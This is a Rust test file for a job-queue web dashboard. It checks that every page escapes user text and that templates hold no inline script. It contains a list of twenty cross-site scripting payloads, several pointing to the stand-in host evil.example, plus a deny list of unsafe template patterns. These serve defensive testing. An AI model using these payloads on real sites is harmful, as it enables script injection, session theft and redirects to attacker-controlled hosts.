//! Nothing that is stored or asked for is ever markup, and the pages bring no code but their own file.

use std::path::Path;

use windlass::Draft;
use windlass_core::queue::QueueSettings;
use windlass_core::store::Settle;

use crate::browser::Browser;
use crate::document::held;
use crate::stock::Stock;

/// What has worked somewhere: elements, attributes, endings of what they may stand in, half markup.
const HOSTILE: [&str; 20] = [
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</textarea><img src=x onerror=alert(3)>",
    "</pre><svg onload=alert(4)>",
    "\"><img src=x onerror=alert(5)>",
    "'><img src=x onerror=alert(6)>",
    "\" onfocus=\"alert(7)\" autofocus=\"",
    "' onmouseover='alert(8)'",
    "<a href=\"javascript:alert(9)\">x</a>",
    "<iframe srcdoc='<script>alert(10)</script>'>",
    "<!--<img src=\"--><img src=x onerror=alert(11)//\">",
    "<svg><script>alert(12)</script></svg>",
    "<math><mtext></mtext><img src=x onerror=alert(13)>",
    "<style>@import'//evil.example/14'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/15'>",
    "<base href='//evil.example/16'>",
    "{{ 7 * 7 }}<b>17</b>",
    "&lt;script&gt;alert(18)<script>",
    "<ScRiPt/src=//evil.example/19>",
    "<form action=//evil.example/20><button>x</button>",
];

#[tokio::test(flavor = "multi_thread")]
async fn what_is_stored_is_never_markup() {
    let stock = Stock::empty().await;
    stock.client.set_queue("mail", QueueSettings::default()).await.expect("a queue");
    let mut jobs = Vec::new();
    for hostile in HOSTILE {
        stock.hello(hostile, hostile).await;
        let draft =
            || Draft::raw("mail", "send", hostile.as_bytes()).group(hostile).tag(hostile).trace(hostile);
        let killed = stock.enqueue(draft().unique(hostile)).await;
        assert_eq!(stock.kill("mail", hostile, hostile, hostile).await, killed);
        let snoozed = stock.enqueue(draft()).await;
        let lease = stock.claim("mail").await.lease;
        stock
            .settle(Settle::Snooze { lease, delay_ms: 60_000, reason: hostile.to_owned(), holds: None })
            .await;
        let completed = stock.enqueue(draft()).await;
        let lease = stock.claim("mail").await.lease;
        let result = Some(hostile.as_bytes().to_vec());
        stock.settle(Settle::Complete { lease, result, then: Vec::new() }).await;
        let running = stock.enqueue(draft()).await;
        let job = stock.claim("mail").await;
        stock.report(&job, hostile, hostile).await;
        jobs.push((hostile, [killed, snoozed, completed, running]));
    }
    for (n, hostile) in HOSTILE.into_iter().enumerate() {
        let job = Draft::raw("mail", "send", hostile.as_bytes()).group(hostile);
        let every = std::time::Duration::from_secs(86_400);
        stock.client.schedule(format!("s{n}")).every(every).job(job).await.expect("a schedule");
    }

    let home = held(&stock.client);
    let browser = Browser::at(&home);
    let mut paths: Vec<String> = [
        "/",
        "/queues",
        "/queues/mail",
        "/jobs",
        "/errors",
        "/bulk",
        "/charts",
        "/schedules",
        "/schedules/s3",
        "/limits",
        "/workers",
    ]
    .map(Into::into)
    .into();
    for (hostile, ids) in &jobs {
        let asked: String = form_urlencoded::byte_serialize(hostile.as_bytes()).collect();
        paths.push(format!("/jobs?filter={asked}"));
        paths.push(format!("/jobs?filter=group:%22{asked}"));
        paths.push(format!("/bulk/new?action=retry&filter=group:%22{asked}"));
        paths.push(format!("/bulk/new?action={asked}&filter=queue:mail"));
        paths.push(format!("/bulk/new?action=delete&filter=queue:mail&rate={asked}&back={asked}"));
        let fields = [("action", "retry"), ("filter", "queue:mail state:ready"), ("rate", hostile)];
        assert_escaped(&browser.post("/bulk", &fields).await.text, "an operation");
        paths.push(format!("/queues?prefix={asked}"));
        paths.push(format!("/queues/mail?edit=~{asked}"));
        paths.push(format!("/queues/{asked}"));
        paths.push(format!("/jobs/{asked}"));
        for id in ids {
            paths.push(format!("/jobs/{id}"));
            paths.push(format!("/jobs/{id}/edit"));
            paths.push(format!("/jobs/{id}/attempts/1/log"));
            assert_escaped(&browser.post(&format!("/jobs/{id}/cancel"), &[]).await.text, "a question");
        }
        let wrong =
            browser.post("/limits", &[("name", hostile), ("concurrency", hostile), ("rate", hostile)]).await;
        assert_escaped(&wrong.text, "limits");
        let fields = [("group", format!("~{hostile}")), ("weight", (*hostile).to_owned())];
        let fields: Vec<(&str, &str)> = fields.iter().map(|(name, value)| (*name, value.as_str())).collect();
        assert_escaped(&browser.post("/queues/mail/groups", &fields).await.text, "groups");
        let fields = [
            "name",
            "cron",
            "time_zone",
            "every",
            "queue",
            "kind",
            "group",
            "priority",
            "payload",
            "catch_up",
        ]
        .map(|name| (name, *hostile));
        assert_escaped(&browser.post("/schedules", &fields).await.text, "a schedule");
        paths.push(format!("/errors?show={asked}"));
        paths.push(format!("/charts?range={asked}"));
        let fields = [("payload", *hostile), ("priority", *hostile), ("run_at", *hostile)];
        assert_escaped(&browser.post(&format!("/jobs/{}/edit", ids[1]), &fields).await.text, "edit");
    }
    for path in paths {
        assert_escaped(&browser.get(&path).await.text, &path);
    }
    // The test would see it: each text does stand on the page of its jobs.
    for (hostile, [killed, snoozed, completed, running]) in jobs {
        let escaped = escaped(hostile);
        for (id, times) in [(killed, 5), (snoozed, 4), (completed, 4), (running, 5)] {
            let page = browser.get(&format!("/jobs/{id}")).await;
            let found = page.text.matches(&escaped).count();
            assert!(found >= times, "{hostile} stands {found} times, not {times}, in {}", page.text);
        }
    }
}

/// As templates write it.
fn escaped(text: &str) -> String {
    let code = |c: char| match c {
        '<' | '>' | '&' | '"' | '\'' => format!("&#{};", c as u32),
        c => c.to_string(),
    };
    text.chars().map(code).collect()
}

fn assert_escaped(page: &str, what: &str) {
    for hostile in HOSTILE {
        assert!(!page.contains(hostile), "{what} has {hostile} as it is:\n{page}");
    }
    let low = page.to_ascii_lowercase();
    assert!(low.matches("<script").count() <= 1, "{what}:\n{page}");
    for element in [
        "<iframe",
        "<style",
        "<base",
        "<math",
        "<meta http-equiv",
        "<img src=x",
        " onerror=alert(3)>",
        "<svg on",
    ] {
        assert!(!low.contains(element), "{what} has {element}:\n{page}");
    }
}

#[test]
fn templates_hold_no_code_and_trust_nothing() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates");
    let mut seen = 0;
    for entry in std::fs::read_dir(folder).expect("the templates") {
        let path = entry.expect("a template").path();
        let text = std::fs::read_to_string(&path).expect("text");
        for forbidden in [
            "|safe",
            "| safe",
            " style=",
            "<style",
            "javascript:",
            " onclick",
            " onload",
            " onchange",
            "http://",
            "https://",
        ] {
            assert!(!text.contains(forbidden), "{} has {forbidden}", path.display());
        }
        for script in text.split("<script").skip(1) {
            assert!(
                script.starts_with(" src=\"{{ f.asset(\"live.js\") }}\"></script>"),
                "{}",
                path.display()
            );
        }
        seen += 1;
    }
    assert!(seen > 10);
}
